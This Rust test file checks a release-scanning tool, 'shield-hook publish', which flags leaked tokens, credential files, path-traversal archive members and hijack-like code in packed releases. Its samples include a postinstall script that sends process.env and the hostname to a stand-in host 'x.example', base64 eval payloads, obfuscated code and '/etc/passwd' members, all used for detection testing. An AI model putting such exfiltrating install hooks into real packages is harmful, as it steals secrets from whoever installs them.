//! `shield-hook publish`: packed releases of every format, in real repositories.

use crate::support::pack::{gzip, tar};
use crate::support::zip::{entry, zip};
use crate::support::{Repo, Sandbox, npm_token};

type Files<'a> = &'a [(&'a str, &'a [u8])];

fn tgz(members: Files<'_>) -> Vec<u8> {
    gzip(&tar(members))
}

/// These files as a package of npm.
fn npm(files: Files<'_>) -> Vec<u8> {
    let names: Vec<String> = files.iter().map(|(name, _)| format!("package/{name}")).collect();
    let members: Vec<(&str, &[u8])> = names.iter().zip(files).map(|(name, (_, text))| (name.as_str(), *text)).collect();
    tgz(&members)
}

const MANIFEST: &[u8] = b"{\n  \"name\": \"acme\",\n  \"version\": \"1.0.0\"\n}\n";

/// A repository with a manifest and one source file, committed.
fn project(sandbox: &Sandbox) -> Repo<'_> {
    let repo = sandbox.repo("repo");
    repo.write("package.json", MANIFEST).write("index.js", "module.exports = 1\n");
    repo.commit("first");
    repo
}

const INDEX: (&str, &[u8]) = ("index.js", b"module.exports = 1\n");

#[test]
fn an_honest_release_of_every_format_is_clean() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let text: &[u8] = b"value = 1\n";
    let info: &[u8] = b"Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n";
    let gem = tar(&[("data.tar.gz", &tgz(&[("lib/acme.rb", text)])), ("metadata.gz", b"")]);
    for (name, bytes, format) in [
        ("acme-1.0.0.tgz", npm(&[("package.json", MANIFEST), INDEX]), "npm"),
        ("acme-1.0.tar.gz", tgz(&[("acme-1.0/PKG-INFO", info), ("acme-1.0/acme/__init__.py", text)]), "sdist"),
        (
            "acme-1.0-py3-none-any.whl",
            zip(&[entry("acme/__init__.py", text), entry("acme-1.0.dist-info/METADATA", info)]),
            "wheel",
        ),
        ("acme-1.0.0.crate", tgz(&[("acme-1.0.0/Cargo.toml.orig", b""), ("acme-1.0.0/src/lib.rs", text)]), "crate"),
        ("acme-1.0.0.gem", gem, "gem"),
        ("Acme.1.0.0.nupkg", zip(&[entry("Acme.nuspec", "<package/>"), entry("lib/a.txt", text)]), "nupkg"),
        (
            "acme.vsix",
            zip(&[entry("extension.vsixmanifest", "<a/>"), entry("extension/package.json", MANIFEST)]),
            "vsix",
        ),
    ] {
        repo.write(name, bytes);
        let run = repo.shield(&["publish", name, "--receipt", "receipt.json", "--format", "json"]).expect(0);
        assert!(run.blocking().is_empty(), "{name}: {}", run.stdout);
        let receipt: serde_json::Value =
            serde_json::from_slice(&std::fs::read(repo.path("receipt.json")).expect("written")).expect("JSON");
        assert_eq!(receipt["artefacts"][0]["format"], format, "{name}");
        assert_eq!(receipt["artefacts"][0]["sha256"].as_str().map(str::len), Some(64));
    }
}

#[test]
fn a_secret_in_a_release_blocks_and_one_that_was_published_before_does_not() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let token = npm_token();
    let leak = format!("const token = '{token}'\n");
    repo.write("acme-1.0.0.tgz", npm(&[("package.json", MANIFEST), ("lib/a.js", leak.as_bytes())]));
    let run = repo.shield(&["publish", "acme-1.0.0.tgz", "--format", "json"]).expect_blocked(&["lib/a.js:1"]);
    assert!(!run.stdout.contains(&token));
    repo.shield(&["publish", "acme-1.0.0.tgz", "--against", "acme-1.0.0.tgz"]).expect(0);
}

#[test]
fn files_that_are_never_published_block() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    for (path, text) in [
        (".env", "DB_NAME=acme_prod\n"),
        (".npmrc", "//registry.example/:_authToken=${NPM_TOKEN}\n"),
        (".git/config", "[core]\n"),
        ("deploy/.ssh/id_ed25519", "x"),
        ("infra/terraform.tfstate", "{}"),
        (".bash_history", "ls\n"),
    ] {
        repo.write("acme-1.0.0.tgz", npm(&[("package.json", MANIFEST), (path, text.as_bytes())]));
        let run = repo.shield(&["publish", "acme-1.0.0.tgz", "--format", "json"]).expect(1);
        assert!(run.stdout.contains("artefact-credential-file"), "{path}: {}", run.stdout);
    }
    // A template, and settings without a value, give nothing away.
    for (path, text) in
        [(".env.example", "DB_NAME=\n"), (".npmrc", "engine-strict=true\n"), (".env", "# nothing yet\n")]
    {
        repo.write("acme-1.0.0.tgz", npm(&[("package.json", MANIFEST), (path, text.as_bytes())]));
        repo.shield(&["publish", "acme-1.0.0.tgz"]).expect(0);
    }
}

#[test]
fn leftovers_warn_once_a_kind_and_block_by_setting() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let release = npm(&[
        ("package.json", MANIFEST),
        (".claude/settings.json", b"{}"),
        (".claude/agents/a.md", b"x"),
        (".vscode/settings.json", b"{}"),
        ("dist/a.js.map", br#"{"version":3,"sources":["../src/a.ts"],"sourcesContent":["let a"]}"#),
    ]);
    repo.write("acme-1.0.0.tgz", release);
    let run = repo.shield(&["publish", "acme-1.0.0.tgz", "--format", "json"]).expect(0);
    assert_eq!(run.stdout.matches("\"artefact-leftover-file\"").count(), 3, "{}", run.stdout);
    repo.write(".shield-hook.toml", "[publish]\nleftover = \"block\"\n");
    repo.shield(&["publish", "acme-1.0.0.tgz"]).expect(1);
}

#[test]
fn members_that_no_honest_packer_writes_block() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    for path in ["package/../../x", "/etc/passwd", "package/index.js"] {
        let members: Files<'_> = &[("package/package.json", MANIFEST), ("package/index.js", b"1"), (path, b"2")];
        repo.write("acme-1.0.0.tgz", tgz(members));
        let run = repo.shield(&["publish", "acme-1.0.0.tgz", "--format", "json"]).expect(1);
        assert!(run.stdout.contains("artefact-unsafe-member"), "{path}: {}", run.stdout);
    }
}

#[test]
fn what_is_not_in_the_repository_is_reported_and_blocks_by_setting() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    repo.git(&["tag", "v1.0.0"]);
    repo.write(
        "acme-1.0.0.tgz",
        npm(&[("package.json", MANIFEST), INDEX, ("dist/a.js", b"built()"), ("extra.js", b"hidden()")]),
    );
    let run = repo.shield(&["publish", "acme-1.0.0.tgz", "--receipt", "r.json", "--format", "json"]).expect(0);
    assert!(run.stdout.contains("artefact-outside-repository"), "{}", run.stdout);
    let receipt = std::fs::read_to_string(repo.path("r.json")).expect("written");
    assert!(receipt.contains("\"outside\": 2") && receipt.contains("v1.0.0"), "{receipt}");
    repo.write(".shield-hook.toml", "[publish]\nbuilt = [\"dist/**\"]\noutside = \"block\"\n");
    let run = repo.shield(&["publish", "acme-1.0.0.tgz", "--format", "json"]).expect(1);
    assert!(run.stdout.contains("extra.js") && !run.stdout.contains("dist/a.js"), "{}", run.stdout);
    repo.shield(&["publish", "acme-1.0.0.tgz", "--no-git"]).expect(0);
}

#[test]
fn a_release_that_newly_does_what_hijacked_ones_do_blocks() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    repo.write("old.tgz", npm(&[("package.json", MANIFEST), INDEX]));
    for text in [
        "eval(Buffer.from(x, 'base64').toString())\n".to_owned(),
        "post(JSON.stringify(process.env))\n".to_owned(),
        "var _0x12ab=_0x34cd(1);".repeat(9),
    ] {
        repo.write("new.tgz", npm(&[("package.json", MANIFEST), ("index.js", text.as_bytes())]));
        let run = repo.shield(&["publish", "new.tgz", "--against", "old.tgz", "--format", "json"]).expect(1);
        assert!(run.stdout.contains("release-changed"), "{text}: {}", run.stdout);
        // The same release after itself does nothing new.
        repo.shield(&["publish", "new.tgz", "--against", "new.tgz"]).expect(0);
    }
    let installs = br#"{"name": "acme", "version": "1.0.1", "scripts": {"preinstall": "node setup.js"}}"#;
    repo.write("new.tgz", npm(&[("package.json", installs), INDEX]));
    let run = repo.shield(&["publish", "new.tgz", "--against", "old.tgz", "--format", "json"]).expect(1);
    assert!(run.stdout.contains("runs a command when it is installed (`preinstall`)"), "{}", run.stdout);
    repo.shield(&["publish", "new.tgz", "--against", "new.tgz"]).expect(0);
    // A native part that was built where it was installed may come along, built; a program that came from nowhere may not.
    let program = [b"\x7fELF".as_slice(), &[7; 64]].concat();
    let native: Files<'_> = &[("package.json", MANIFEST), INDEX, ("prebuilds/a.node", &program)];
    repo.write("new.tgz", npm(native));
    repo.shield(&["publish", "new.tgz", "--against", "old.tgz"]).expect(1);
    repo.write("old.tgz", npm(&[("package.json", MANIFEST), INDEX, ("binding.gyp", b"{}")]));
    let run = repo.shield(&["publish", "new.tgz", "--against", "old.tgz"]).expect(0);
    assert!(run.stdout.contains("release-changed"), "{run:?}");
}

#[test]
fn what_the_release_before_had_is_old_in_any_file_and_in_any_packing() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let leak = format!("const token = '{}'\n", npm_token());
    let text = format!("{leak}// {}\n", "x".repeat(200));
    let packed = gzip(text.as_bytes());
    // The header of gzip has the time of packing, so that equal content is packed into other bytes.
    let again = [&packed[..4], &[1, 2, 3, 4], &packed[8..]].concat();
    repo.write("old.tgz", npm(&[("package.json", MANIFEST), ("data/a.json.gz", &packed)]));
    repo.write("new.tgz", npm(&[("package.json", MANIFEST), ("data/a.json.gz", &again)]));
    repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(0);
    let run = repo.shield(&["publish", "new.tgz", "--no-git", "--format", "json"]).expect(1);
    assert_eq!(run.blocking().len(), 1, "{}", run.stdout);
    // A bundle has another name in each release.
    repo.write("old.tgz", npm(&[("package.json", MANIFEST), ("dist/main.1a2b.js", leak.as_bytes())]));
    let moved = format!("start()\n{leak}");
    repo.write("new.tgz", npm(&[("package.json", MANIFEST), ("dist/main.3c4d.js", moved.as_bytes())]));
    repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(0);
    let other = format!("const token = '{}'\n", npm_token());
    repo.write("new.tgz", npm(&[("package.json", MANIFEST), ("dist/main.3c4d.js", other.as_bytes())]));
    repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(1);
}

#[test]
fn ten_bad_releases_are_stopped_with_the_right_words() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    repo.write("old.tgz", npm(&[("package.json", MANIFEST), INDEX]));
    let leak = format!("module.exports = '{}'\n", npm_token());
    let rc = format!("//registry.example/:_authToken={}\n", npm_token());
    let script = br#"{"name": "acme", "version": "1.0.1", "scripts": {"postinstall": "node lib/setup.js"}}"#;
    let bundled = br#"{"name": "acme", "version": "1.0.1", "dependencies": {"axios": "1.14.1"}}"#;
    let code = b"const os = require('os'), https = require('https')\n\
        https.request({host: 'x.example', path: os.hostname()}).end(JSON.stringify(process.env))\n";
    let program = [b"\x7fELF".as_slice(), &[7; 64]].concat();
    let cases: [(Files<'_>, &str); 10] = [
        (&[("package.json", MANIFEST), INDEX, ("lib/config.js", leak.as_bytes())], "npm access token"),
        (&[("package.json", MANIFEST), INDEX, (".npmrc", rc.as_bytes())], "settings of a package manager"),
        (&[("package.json", MANIFEST), INDEX, ("app/.env", b"DB=acme\n")], "environment of a deployment"),
        (&[("package.json", MANIFEST), INDEX, (".git/config", b"[core]\n")], "the repository itself, with its history"),
        (&[("package.json", MANIFEST), INDEX, (".ssh/id_ed25519", b"x")], "SSH keys"),
        (&[("package.json", MANIFEST), INDEX, ("../../x", b"1")], "leads out of the folder"),
        (&[("package.json", script), INDEX, ("lib/setup.js", code)], "runs a command when it is installed"),
        (&[("package.json", MANIFEST), ("index.js", b"eval(atob(x))\n")], "runs code from a string that it decodes"),
        (&[("package.json", MANIFEST), INDEX, ("bin/tool", &program)], "contains a native program"),
        (&[("package.json", bundled), INDEX], "axios@1.14.1"),
    ];
    for (files, words) in cases {
        repo.write("new.tgz", npm(files));
        let run = repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(1);
        assert!(run.stdout.to_lowercase().contains(&words.to_lowercase()), "{words}: {}", run.stdout);
    }
}

#[test]
fn an_allowance_lets_one_remark_pass_and_no_other() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let release = |files: Files<'_>| npm(&[&[("package.json", MANIFEST)], files].concat());
    repo.write("a.tgz", release(&[(".env", b"A=1\n")]));
    repo.write(
        ".shield-hook.toml",
        "[[allow]]\nrule = \"artefact-credential-file\"\npath = \".env\"\nreason = \"defaults of the sample\"\n",
    );
    repo.shield(&["publish", "a.tgz"]).expect(0);
    repo.write("a.tgz", release(&[(".env", b"A=1\n"), ("x/.netrc", b"x")]));
    repo.shield(&["publish", "a.tgz"]).expect(1);
}

#[test]
fn what_cannot_be_read_is_never_clean() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let whole = npm(&[("package.json", MANIFEST), INDEX]);
    repo.write("cut.tgz", &whole[..whole.len() - 20]).write("text.tgz", "no archive").write("empty.tgz", "");
    repo.shield(&["publish", "cut.tgz"]).expect(2);
    repo.shield(&["publish", "text.tgz"]).expect(3);
    repo.shield(&["publish", "empty.tgz"]).expect(3);
    repo.shield(&["publish", "absent.tgz"]).expect(2);
    let sandbox = Sandbox::new();
    let run = sandbox.repo("bare").shield(&["publish"]).expect(3);
    assert!(run.stderr.contains("npm pack"), "{}", run.stderr);
}

#[test]
fn several_artefacts_name_their_files_apart() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let leak = format!("const token = '{}'\n", npm_token());
    repo.write("dist/a-1.tgz", npm(&[("package.json", MANIFEST), ("a.js", leak.as_bytes())]));
    repo.write("dist/b-1.tgz", npm(&[("package.json", MANIFEST), INDEX]));
    repo.shield(&["publish", "dist/a-1.tgz", "dist/b-1.tgz", "--format", "json"]).expect_blocked(&["a-1.tgz/a.js:1"]);
}

#[test]
fn code_that_does_what_attacks_do_is_scored_before_and_after_publishing() {
    let sandbox = Sandbox::new();
    let repo = project(&sandbox);
    let installs = br#"{"name": "acme", "version": "1.0.0", "scripts": {"postinstall": "node lib/setup.js"}}"#;
    let code = b"const https = require('https'), os = require('os')\n\
        https.request({host: 'x.example', path: '/' + os.hostname()}).end(JSON.stringify(process.env))\n";
    let bad = npm(&[("package.json", installs), ("lib/setup.js", code)]);
    repo.write("bad.tgz", &bad).write("good.tgz", npm(&[("package.json", MANIFEST), ("lib/setup.js", code)]));
    let run = repo.shield(&["publish", "bad.tgz", "--no-git", "--format", "json"]).expect(0);
    let of_rule = |run: &crate::support::Run| run.stdout.matches("\"suspicious-code\"").count();
    assert_eq!(of_rule(&run), 1, "{run:?}");
    assert!(run.stdout.contains("while it is installed"), "{run:?}");
    // What the release before had is not new, and what nobody runs by installing is no attack.
    for args in [&["publish", "bad.tgz", "--no-git", "--against", "bad.tgz"][..], &["publish", "good.tgz", "--no-git"]]
    {
        let run = repo.shield(args).expect(0);
        assert!(!run.stdout.contains("suspicious-code"), "{run:?}");
    }
    // Whoever fetched it.
    let run = repo.shield(&["check", "bad.tgz", "--format", "json"]).expect(0);
    let package = &run.json()["packages"][0];
    assert_eq!((package["name"].as_str(), package["verdict"].as_str()), (Some("acme"), Some("warn")), "{run:?}");
    assert!(package["notes"][0].as_str().unwrap().starts_with("lib/setup.js: suspicious code, score"), "{run:?}");
    let run = repo.shield(&["check", "good.tgz", "--all", "--format", "json"]).expect(0);
    assert_eq!(run.json()["packages"][0]["verdict"], "unknown");
    repo.write("cut.tgz", &bad[..bad.len() - 20]);
    repo.shield(&["check", "cut.tgz"]).expect(2);
    repo.write("other.tgz", tgz(&[("a/b.txt", b"x")]));
    repo.shield(&["check", "other.tgz"]).expect(3);
    // A known-bad version is one, whatever is in it.
    let hijacked = br#"{"name": "axios", "version": "1.14.1"}"#;
    repo.write("axios.tgz", npm(&[("package.json", hijacked)]));
    repo.shield(&["check", "axios.tgz"]).expect(1);
}
